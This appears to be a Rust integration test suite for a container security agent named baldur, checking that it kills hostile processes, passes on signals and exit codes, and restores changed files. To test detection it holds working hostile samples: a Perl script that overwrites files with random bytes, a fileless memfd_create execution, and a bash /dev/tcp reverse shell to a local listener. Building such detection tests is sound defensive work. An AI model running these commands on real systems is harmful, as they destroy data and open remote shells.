//! `baldur run -- CMD` as it is used in a container: without root, and without anything of the kernel's that a container lacks.
//! Needs neither; runs on the host because the mechanism is the same.
#[path = "../run/fake_tyr.rs"]
mod fake_tyr;
#[path = "../ordinary/files.rs"]
mod files;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Command as Program, Stdio};
use std::time::{SystemTime, UNIX_EPOCH};

use fake_tyr::{FakeTyr, Stage, as_batch};
use files::Files;
use norn_events::EventKind;
use norn_events::wire::action::v1::command::Action;
use norn_events::wire::action::v1::{Command, OutcomeState, RestoreAction, Verdict};
use norn_events::wire::agent::v1::baldur_message;
use norn_events::wire::finding::v1::{Finding, ResponseRung};

/// Writes random bytes over each file below the directory that it is given.
const ENCRYPT: &str = "
    for $file (glob(\"$ARGV[0]/*/*.*\"), glob(\"$ARGV[0]/*/*/*.*\")) {
        open(R, '<', '/dev/urandom'); read(R, $random, -s $file);
        open(F, '+<', $file) or die; print F $random; close F;
    }";

fn content(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    let mut waiting = vec![dir.to_path_buf()];
    while let Some(dir) = waiting.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            match path.is_dir() {
                true => waiting.push(path),
                false => {
                    let bytes = std::fs::read(&path).unwrap();
                    found.insert(path, bytes);
                }
            }
        }
    }
    found
}

/// Each test has one of its own: they run side by side.
fn home(name: &str) -> Files {
    let path = PathBuf::from(format!("/var/tmp/norn-inside-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&path).unwrap();
    Files { path }
}

/// Runs the command to its end; its exit code.
fn exit_code(name: &str, command: &[&str]) -> i32 {
    let state = std::env::temp_dir().join(format!("norn-inside-{}-{name}", std::process::id()));
    let mut program = Program::new(env!("CARGO_BIN_EXE_baldur"));
    program
        .args(["run", "--state-dir"])
        .arg(&state)
        .arg("--")
        .args(command);
    let status = program.stderr(Stdio::null()).status().unwrap();
    std::fs::remove_dir_all(state).unwrap();
    status.code().expect("the agent itself was not killed")
}

/// Starts a shell below the agent, and waits until its script has made the file that it is given.
fn run_until(ready: &Path, script: &str) -> Child {
    let agent = Program::new(env!("CARGO_BIN_EXE_baldur"))
        .args(["run", "--state-dir"])
        .arg(ready.with_extension("state"))
        .args(["--", "sh", "-c", script])
        .arg(ready)
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    while !ready.exists() {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    agent
}

fn finding(tyr: &mut FakeTyr) -> Finding {
    tyr.until("a finding", |message| {
        as_batch(message)?.0.findings.first().cloned()
    })
}

#[test]
fn the_applications_exit_code_is_the_agents() {
    assert_eq!(exit_code("code", &["sh", "-c", "exit 7"]), 7);
    assert_eq!(exit_code("signal", &["sh", "-c", "kill -KILL $$"]), 137);
    assert_eq!(exit_code("missing", &["no-such-program"]), 127);
    let orphan = ["sh", "-c", "(sh -c 'exit 9') & wait; exit 4"];
    assert_eq!(
        exit_code("orphan", &orphan),
        4,
        "another's end is not the application's"
    );
}

#[test]
fn signals_go_on_to_the_application() {
    let script = "trap 'exit 3' TERM; : > \"$0\"; while :; do sleep 0.05; done";
    let dir = std::env::temp_dir().join(format!("norn-inside-trap-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let ready = dir.join("ready");
    let mut agent = run_until(&ready, script);
    let kill = Program::new("kill").arg(agent.id().to_string()).status().unwrap();
    assert!(kill.success());
    assert_eq!(agent.wait().unwrap().code(), Some(3));
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn the_application_does_not_outlive_its_agent() {
    let dir = std::env::temp_dir().join(format!("norn-inside-outlive-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let ready = dir.join("ready");
    let script = "echo $$ > \"$0.new\"; mv \"$0.new\" \"$0\"; exec sleep 600";
    let mut agent = run_until(&ready, script);
    let application = std::fs::read_to_string(&ready).unwrap();
    let comm = PathBuf::from(format!("/proc/{}/comm", application.trim()));
    agent.kill().unwrap();
    agent.wait().unwrap();
    let runs = || std::fs::read_to_string(&comm).is_ok_and(|name| name == "sleep\n");
    let looks = (0..2_000).map(|_| std::thread::sleep(std::time::Duration::from_millis(5)));
    assert!(
        looks.map(|()| runs()).any(|runs| !runs),
        "its application runs on"
    );
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn an_encryptor_is_stopped_and_every_file_is_as_it_was() {
    let files = home("encrypt");
    let docs = files.corpus("inside-encrypt").join("docs");
    let before = content(&docs);
    let path = docs.to_str().unwrap();
    let mut stage = Stage::acting_everywhere("inside-encrypt", &["--", "perl", "-e", ENCRYPT, path]);
    stage.start_baldur();
    let (mut tyr, hello) = stage.accept();
    assert_eq!(hello.container_id.len(), 64);
    let finding = finding(&mut tyr);
    let response = finding.response.clone().unwrap();
    assert_eq!(response.rung(), ResponseRung::Killed);
    let restored = finding
        .evidence
        .iter()
        .find(|evidence| evidence.field == "response.restored");
    let restored = &restored.expect("it says what came of the restore").value;
    assert!(restored.contains(" 0 lost, 0 in conflict"), "{restored}");
    let after = content(&docs);
    let differs = |path: &&PathBuf| before.get(*path) != after.get(*path);
    let different: Vec<&PathBuf> = before.keys().chain(after.keys()).filter(differs).collect();
    assert!(different.is_empty(), "{different:?}");
    let exit_code = tyr.until("a farewell", |message| match message {
        baldur_message::Message::Farewell(farewell) => Some(farewell.exit_code),
        _ => None,
    });
    assert_eq!(exit_code, 137);
}

#[test]
fn a_program_from_memory_never_runs() {
    // memfd_create(2) has the number 319 on x86-64.
    let script =
        "my $name = 'tool'; my $fd = syscall(319, $name, 0); open(my $memory, '>&=', $fd); binmode $memory;
        open(my $true, '<', '/bin/echo'); local $/; print {$memory} readline($true); $memory->flush;
        exec { \"/proc/self/fd/$fd\" } 'tool', 'it runs';";
    let mut stage =
        Stage::acting_everywhere("inside-fileless", &["--", "perl", "-MIO::Handle", "-e", script]);
    stage.start_baldur();
    let (mut tyr, _) = stage.accept();
    let finding = finding(&mut tyr);
    assert_eq!(finding.rule_id, "reflex.fileless");
    assert_eq!(finding.response.unwrap().rung(), ResponseRung::Killed);
}

#[test]
fn a_shell_on_an_outgoing_connection_is_stopped() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec sh -i <&3 >&3");
    let mut stage = Stage::acting_everywhere("inside-shell", &["--", "bash", "-c", &script]);
    stage.start_baldur();
    let (mut tyr, _) = stage.accept();
    let finding = finding(&mut tyr);
    assert_eq!(finding.rule_id, "reflex.reverse_shell");
    assert_eq!(finding.response.unwrap().rung(), ResponseRung::Killed);
}

#[test]
fn programs_and_files_are_told_of_with_their_lineage() {
    let dir = home("told");
    let file = dir.path.join("told");
    let script = format!("sh -c 'echo x > {0}; mv {0} {0}2'; exit 0", file.display());
    let mut stage = Stage::acting_everywhere("inside-told", &["--", "sh", "-c", &script]);
    stage.start_baldur();
    let (mut tyr, hello) = stage.accept();
    let mut seen = Vec::new();
    tyr.until("the rename", |message| {
        let (_, batch) = as_batch(message)?;
        for row in &batch.rows {
            let process = &batch.processes[row.process];
            seen.push((row.kind, row.path.clone(), process.clone()));
        }
        seen.iter()
            .any(|(kind, ..)| *kind == EventKind::FileRename as u8)
            .then_some(())
    });
    let (_, path, mover) = seen
        .iter()
        .find(|(kind, ..)| *kind == EventKind::FileRename as u8)
        .unwrap();
    assert_eq!(path, file.as_os_str().as_encoded_bytes());
    assert_eq!(mover.container_id, hello.container_id.as_bytes());
    let parent = seen
        .iter()
        .find(|(_, _, process)| process.uid == mover.parent_uid);
    assert!(parent.is_some(), "whoever created the mover is in the batch, too");
}

fn restore_of(scope: [u8; 16]) -> Command {
    let now_us = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_micros() as u64;
    Command {
        id: "a".repeat(32),
        alert_id: "alert".to_owned(),
        issued_at_us: now_us,
        expires_at_us: now_us + 60_000_000,
        epoch: 1,
        scope_uids: vec![scope.to_vec()],
        action: Some(Action::Restore(RestoreAction::default())),
        ..Command::default()
    }
}

fn who_made_done(tyr: &mut FakeTyr) -> [u8; 16] {
    tyr.until("who made the file", |message| {
        let (_, batch) = as_batch(message)?;
        let row = batch.rows.iter().find(|row| row.path.ends_with(b"/done"))?;
        Some(batch.processes[row.process].uid)
    })
}

/// Each changes files in its own way; none is an attack.
const ORDINARY: &str = "
    tar xf archive.tar; tar xf archive.tar --overwrite
    find gone -type f -delete; rmdir gone/deep gone
    truncate -s 3 cut; mv replacement replaced; ln linked second; echo more >> second
    sed -i s/was/is/ edited; cp copied over; dd if=/dev/zero of=holed bs=1 count=4 seek=2 conv=notrunc
    chmod 600 mode; touch -d @1 times; ln -sf other link
    if command -v sqlite3; then sqlite3 database \"update t set a = 'other'; vacuum\"; fi
    : > done; exec sleep 600";

fn prepare_ordinary(dir: &Path) {
    std::fs::create_dir_all(dir.join("gone/deep")).unwrap();
    let names = [
        "cut",
        "replacement",
        "replaced",
        "linked",
        "edited",
        "copied",
        "over",
        "holed",
        "mode",
        "times",
    ];
    let more = ["one", "two", "gone/a", "gone/deep/b", "other"];
    for name in names.iter().chain(&more) {
        std::fs::write(dir.join(name), format!("{name} as it was\n")).unwrap();
    }
    std::os::unix::fs::symlink("cut", dir.join("link")).unwrap();
    let script = "tar cf archive.tar one two; echo changed since >> one
        if command -v sqlite3; then sqlite3 database \"create table t (a); insert into t values ('as it was')\"; fi";
    let made = Program::new("sh")
        .args(["-c", script])
        .current_dir(dir)
        .stdout(Stdio::null())
        .status();
    assert!(made.unwrap().success());
}

#[test]
fn what_ordinary_programs_changed_comes_back() {
    let files = home("ordinary");
    let dir = files.path.join("ordinary");
    prepare_ordinary(&dir);
    let before = content(&dir);
    let facts = |name: &str| {
        let found = std::fs::symlink_metadata(dir.join(name)).unwrap();
        (found.permissions(), found.modified().unwrap())
    };
    let names = ["mode", "times", "cut", "one", "edited"];
    let facts_before = names.map(facts);
    let script = format!("cd {}; {ORDINARY}", dir.display());
    let mut stage = Stage::acting_everywhere("inside-ordinary", &["--", "sh", "-c", &script]);
    stage.start_baldur();
    let (mut tyr, _) = stage.accept();
    let scope = who_made_done(&mut tyr);
    assert_ne!(content(&dir), before);
    tyr.command(&restore_of(scope));
    let outcome = tyr.outcome(&"a".repeat(32));
    assert_eq!(outcome.state(), OutcomeState::Succeeded);
    let lost = |file: &&norn_events::wire::action::v1::FileVerdict| file.verdict() == Verdict::Lost;
    assert_eq!(outcome.files.iter().find(lost), None);
    let after = content(&dir);
    let differs = |path: &&PathBuf| before.get(*path) != after.get(*path);
    let different: Vec<&PathBuf> = before.keys().chain(after.keys()).filter(differs).collect();
    assert!(different.is_empty(), "{different:?}");
    assert_eq!(names.map(facts), facts_before);
    assert_eq!(std::fs::read_link(dir.join("link")).unwrap(), Path::new("cut"));
}

#[test]
fn what_an_application_does_is_left_alone_until_a_command_asks() {
    let files = home("commanded");
    let dir = files.path.join("commanded");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("old"), "as it was").unwrap();
    let script = format!(
        "cd {}; echo other > old; echo made > new; : > done; exec sleep 600",
        dir.display()
    );
    let mut stage = Stage::acting_everywhere("inside-command", &["--", "sh", "-c", &script]);
    stage.start_baldur();
    let (mut tyr, _) = stage.accept();
    let scope = who_made_done(&mut tyr);
    assert_eq!(std::fs::read_to_string(dir.join("old")).unwrap(), "other\n");
    tyr.command(&restore_of(scope));
    let outcome = tyr.outcome(&"a".repeat(32));
    assert_eq!(outcome.state(), OutcomeState::Succeeded);
    assert_eq!(std::fs::read_to_string(dir.join("old")).unwrap(), "as it was");
    assert!(!dir.join("new").exists());
    let verdicts: Vec<Verdict> = outcome.files.iter().map(|file| file.verdict()).collect();
    assert!(verdicts.contains(&Verdict::Restored) && verdicts.contains(&Verdict::Removed));
}
